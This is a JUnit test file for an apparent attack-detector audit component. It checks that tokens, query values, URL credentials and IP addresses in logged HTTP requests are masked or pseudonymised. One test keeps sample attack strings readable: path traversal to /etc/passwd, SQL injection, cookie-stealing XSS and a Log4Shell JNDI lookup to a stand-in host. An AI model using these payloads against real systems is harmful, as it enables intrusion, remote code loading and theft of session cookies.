package pt.sunbeam.detector.audit;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.tuple;

import java.net.URLDecoder;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.LongStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import pt.sunbeam.detector.audit.AuditRecord.Place;
import pt.sunbeam.detector.http.IpAddress;
import pt.sunbeam.detector.http.RequestHead;

class RedactionTest {
    private static final byte[] KEY = "0123456789abcdef".getBytes(UTF_8);
    private static final Redaction REDACTION = new Redaction(Set.of("page", "q"), true, KEY);

    @ParameterizedTest
    @CsvSource({
        "/reset/3f2a9c8b7d6e5f4a3f2a9c8b7d6e5f4a, /reset/*",
        "/reset/3F2A9C8B7D6E5F4A.html, /reset/*",
        "/u/123e4567-e89b-12d3-a456-426614174000/edit, /u/*/edit",
        "/card/4111111111111111/, /card/*/",
        "/t/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U, /t/*",
        "/v/a%2Fdozjgc8Ny4J3jVmN2Hl0w%3D, /v/*",
        "/p;jsessionid=1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C6D/x, /*/x",
        "/x7f9k2m4p8q1r5t3w6z0, /*",
        "/%78%37f9k2m4%708q1r5t3w6%7A0/x, /*/x",
        "/%2578%25377f9k2%256D4%25708q1r5t3w6z0, /*"
    })
    void segmentsThatLookLikeTokensAreMasked(String path, String redacted) {
        assertThat(REDACTION.path(path)).isEqualTo(redacted);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "/",
                "//",
                "/a/b/",
                "/wp-admin/install.php",
                "/2024/01/15/how-to-build-a-fast-website-in-2024",
                "/assets/bootstrap-4.5.2.min.css",
                "/Wiki_Page_Title_2024",
                "/top10-best-4k-tvs-of-2024",
                "/order/12345678901",
                "/a%20long%20File%20Name%202024%20final.pdf",
                "/iphone-13-pro-max-256gb-2023",
                "/getAccountSettingsForUser",
                "/..%2f..%2fetc/passwd",
                "/deadbeefdeadbeef",
                "/internationalisation"
            })
    void ordinaryPathsStay(String path) {
        assertThat(REDACTION.path(path)).isEqualTo(path);
    }

    static LongStream seeds() {
        return LongStream.range(0, 200);
    }

    @ParameterizedTest(name = "seed {0}")
    @MethodSource("seeds")
    void randomTokensAreFound(long seed) {
        var random = new SplittableRandom(seed);
        byte[] bits = new byte[24];
        random.nextBytes(bits);
        List<String> tokens = List.of(
                HexFormat.of().formatHex(bits),
                Base64.getUrlEncoder().withoutPadding().encodeToString(bits),
                new UUID(random.nextLong(), random.nextLong()).toString());
        for (String token : tokens) {
            assertThat(REDACTION.path("/a/" + token + "/b")).isEqualTo("/a/*/b");
            assertThat(REDACTION.query(token + "=1&" + token)).isEqualTo("*=*&*");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "'', ''",
        "page=2&token=abc, page=2&token=*",
        "a=, a=",
        "a, a",
        "=x, =*",
        "a=b=c&page=b=c, a=*&page=b=c",
        "&&a=1&, &&a=*&",
        "PAGE=2, PAGE=*",
        "page=2?token=x, page=2?token=x"
    })
    void queryValuesAreMaskedUnlessTheirNamesAreListed(String query, String redacted) {
        assertThat(REDACTION.query(query)).isEqualTo(redacted);
    }

    @ParameterizedTest
    @CsvSource({
        "https://a.example/b?c=d&page=1#e, https://a.example/b?c=*&page=1",
        "https://u:p@a.example:8443/b, https://a.example:8443/b",
        "https://a.example, https://a.example",
        "https://a.example?c=d@e, https://a.example?c=*",
        "/b?u=http://x/y, /b?u=*",
        "/a@b/c, /a@b/c",
        "'', ''",
        "https://a.example/123e4567-e89b-12d3-a456-426614174000, https://a.example/*"
    })
    void aUrlLosesItsSecrets(String url, String redacted) {
        assertThat(REDACTION.url(url)).isEqualTo(redacted);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile/15E148",
                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                "pt-PT,pt;q=0.8,en-US;q=0.5,en;q=0.3",
                "100%",
                "shop.example:8443"
            })
    void whatBrowsersSendStays(String text) {
        assertThat(REDACTION.text(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource({
        "agent/1.0 (key 3f2a9c8b7d6e5f4a3f2a9c8b7d6e5f4a), agent/1.0 (key *)",
        "x7f9k2m4p8q1r5t3w6z0.shop.example, *.shop.example",
        "token=dozjgc8Ny4J3jVmN2Hl0w/+x; y, token=*; y",
        "a %78%37f9k2m4%708q1r5t3w6%7A0 b, a * b"
    })
    void wordsWithTokensAreMasked(String text, String redacted) {
        assertThat(REDACTION.text(text)).isEqualTo(redacted);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "traversal path -: ../../etc/passwd",
                "sqli query id: 1' or '1'='1' -- ",
                "sqli query id: union select password from users where id=1 and sleep(5)",
                "xss query q: <script>alert(document.cookie)</script>",
                "log4j header user-agent: ${jndi:ldap://evil.example/a}"
            })
    void aPieceOfAnAttackStaysReadable(String piece) {
        assertThat(REDACTION.piece(piece)).isEqualTo(piece);
    }

    @Test
    void aPieceOfATokenIsMasked() {
        assertThat(REDACTION.piece("sqli query id: ' union select k3y5abc9 from"))
                .isEqualTo("sqli query id: ' union select * from");
        assertThat(REDACTION.piece("sqli query 3f2a9c8b7d6e5f4a: x")).isEqualTo("sqli query *: x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "192.0.2.7",
                "for=192.0.2.7:1234;by=10.0.0.1",
                "x 2001:db8::7 y",
                "for=\"[2001:db8::7]:1234\"",
                "::ffff:192.0.2.7",
                "2001:DB8:0:0::7",
                "agent/192.0.2.7",
                "peer:192.0.2.7",
                "peer:2001:db8::7",
                "malformed request: 192.0.2.7 said so.",
                "v192.0.2.7",
                "192.0.2.7px",
                "192.0.2.7.443",
                "2001%3Adb8%3A%3A7",
                "%5B2001%3adb8::7%5D",
                "%31%39%32.0%2E2.7",
                "2001%253Adb8%253A%253A7"
            })
    void noAddressStaysInATextWherePseudonymsAreAskedFor(String text) {
        for (String redacted : List.of(
                REDACTION.text(text), REDACTION.path("/x/" + text + "/y"), REDACTION.query(text + "=1&page=" + text))) {
            assertThat(decoded(redacted)).doesNotContainIgnoringCase("192.0.2.7", "2001:db8", "10.0.0.1");
        }
        assertThat(new Redaction(Set.of(), false, KEY).text(text)).isEqualTo(text);
    }

    private static String decoded(String text) {
        return URLDecoder.decode(URLDecoder.decode(text, ISO_8859_1), ISO_8859_1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
                "libwww-perl LWP::Simple/6.77 HTTP::Date",
                "12:34:56",
                "100% of 1.2.3",
                "a%20b%"
            })
    void whatIsNoAddressStaysWherePseudonymsAreAskedFor(String text) {
        assertThat(REDACTION.text(text)).isEqualTo(text);
    }

    @Test
    void anAddressInATextHasThePseudonymThatItHasElsewhere() {
        assertThat(REDACTION.text("from 192.0.2.7, 2001:db8::7"))
                .isEqualTo("from " + REDACTION.address("192.0.2.7") + ", " + REDACTION.address("2001:db8::7"));
    }

    @Test
    void addressesStayUnlessPseudonymsAreAskedFor() {
        var plain = new Redaction(Set.of(), false, KEY);
        assertThat(plain.address("192.0.2.1")).isEqualTo("192.0.2.1");
        assertThat(plain.address("-")).isEqualTo("-");
    }

    @Test
    void aPseudonymIsAnAddressThatHidesTheOtherButGroupsLikeIt() {
        IpAddress one = IpAddress.parse(REDACTION.address("2001:db8::1"));
        IpAddress two = IpAddress.parse(REDACTION.address("2001:db8::2"));
        IpAddress far = IpAddress.parse(REDACTION.address("2001:db8:0:1::1"));
        assertThat(one).isNotEqualTo(two);
        assertThat(one.detectorKey()).isEqualTo(two.detectorKey()).isNotEqualTo(far.detectorKey());
        assertThat(one.toString()).startsWith("fd");
        assertThat(REDACTION.address("192.0.2.1")).startsWith("fc").isEqualTo(REDACTION.address("::ffff:192.0.2.1"));
        assertThat(IpAddress.parse(REDACTION.address("nonsense")).toString()).startsWith("fc");
        assertThat(new Redaction(Set.of(), true, KEY).address("192.0.2.1")).isEqualTo(REDACTION.address("192.0.2.1"));
        assertThat(new Redaction(Set.of(), true, "0123456789abcdeg".getBytes(UTF_8)).address("192.0.2.1"))
                .isNotEqualTo(REDACTION.address("192.0.2.1"));
    }

    @Test
    void neighboursHavePseudonymsThatAreNone() {
        List<IpAddress> pseudonyms = IntStream.range(0, 2_000)
                .mapToObj(i -> IpAddress.parse(REDACTION.address("10.0." + i / 250 + "." + i % 250)))
                .toList();
        assertThat(pseudonyms.stream().map(IpAddress::detectorKey)).doesNotHaveDuplicates();
        // The second byte is the first that is free: all its values turn up, so no prefix is kept.
        assertThat(pseudonyms.stream().map(a -> a.high() >>> 48 & 0xff).distinct())
                .hasSizeGreaterThan(250);
    }

    @Test
    void theShapeOfAValueIsItsClassesItsLengthAndAHash() {
        List<Place> shape = REDACTION.shape(RequestHead.of(
                "GET",
                "/x?id=42&name=Jo%C3%A3o+Silva&empty=&bare&&x=a-b_c.d|%",
                "Cookie",
                "sid=aB3; theme=dark+; =v",
                "cookie",
                "b=\u00e9 y",
                "Host",
                "shop.example",
                "User-Agent",
                "has a field of its own",
                "X-Requested-With",
                "XMLHttpRequest",
                "x-4f9a1c7be2d05836",
                "a+b",
                "X-Empty",
                ""));
        assertThat(shape)
                .extracting(Place::place, Place::name, Place::classes, Place::lengthBucket)
                .containsExactly(
                        tuple("query", "id", 1, 2),
                        tuple("query", "name", 2 | 4 | 8 | 64, 4),
                        tuple("query", "empty", 0, 0),
                        tuple("query", "bare", 0, 0),
                        tuple("query", "x", 2 | 16 | 32, 4),
                        tuple("cookie", "sid", 1 | 2 | 4, 2),
                        tuple("cookie", "theme", 2 | 32, 3),
                        tuple("cookie", "", 2, 1),
                        tuple("cookie", "b", 2 | 8 | 128, 2),
                        tuple("header", "x-requested-with", 2 | 4, 4),
                        tuple("header", "*", 2 | 32, 2),
                        tuple("header", "x-empty", 0, 0));
    }

    @Test
    void equalValuesHaveEqualHashesUnderOneKeyAlone() {
        RequestHead head = RequestHead.of("GET", "/?a=secret&b=secret&c=Secret", "Cookie", "d=secret");
        List<Place> shape = REDACTION.shape(head);
        assertThat(shape.get(0).hash())
                .isEqualTo(shape.get(1).hash())
                .isEqualTo(shape.get(3).hash());
        assertThat(shape.get(0).hash()).isNotEqualTo(shape.get(2).hash());
        assertThat(new Redaction(Set.of(), true, "another key of 16".getBytes(UTF_8))
                        .shape(head)
                        .get(0)
                        .hash())
                .isNotEqualTo(shape.get(0).hash());
        assertThat(shape.toString()).doesNotContainIgnoringCase("secret");
    }

    @Test
    void aFloodOfParametersIsCutAt64Places() {
        assertThat(REDACTION.shape(RequestHead.of("GET", "/?" + "a=1&".repeat(500), "Cookie", "b=2")))
                .hasSize(64);
        assertThat(REDACTION.shape(RequestHead.of("GET", "/"))).isEmpty();
    }

    @Test
    void aShortKeyIsRefused() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> new Redaction(Set.of(), true, new byte[15]))
                .withMessage("a key of 15 bytes (expected: at least 16)");
    }
}
